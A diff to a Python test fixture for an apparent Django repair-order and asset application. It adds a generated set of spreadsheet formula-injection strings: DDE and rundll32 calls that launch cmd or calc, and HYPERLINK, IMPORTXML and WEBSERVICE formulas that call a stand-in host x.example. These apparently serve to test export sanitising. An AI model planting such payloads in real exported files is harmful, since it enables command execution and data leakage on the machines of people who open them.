@@ -63,3 +63,12 @@ def fill() -> int:
         apps.get_model("orders.RepairOrder")._default_manager.update(**{name: [{"text": whole, "is_on": True}]})
     apps.get_model("assets.CategoryField")._default_manager.update(choices=list(PAYLOADS))
     return len(columns)
+
+STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\u2212", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "\u00a0=", "\t", "\u200b=", "\ufeff=",
+          "=\u00a0", "+ ", "- ", "@ ", "\n+", "\r\n-", " @", "\t-")  # fmt: skip
+FOLLOWS = (
+    "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example/?\"&A1;\"x\")", "SUM(A1:A9)", "IMPORTXML(\"http://x.example\")",
+    "WEBSERVICE(\"http://x.example\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "rundll32|'x'!A1", "7 997 200-00-01", "A1;\"x\"\n=B1",
+)  # fmt: skip
+FORMULAS = tuple(f"{start}{follows}" for start in STARTS for follows in FOLLOWS)
+"""Texts that a spreadsheet would run, or show as something else."""
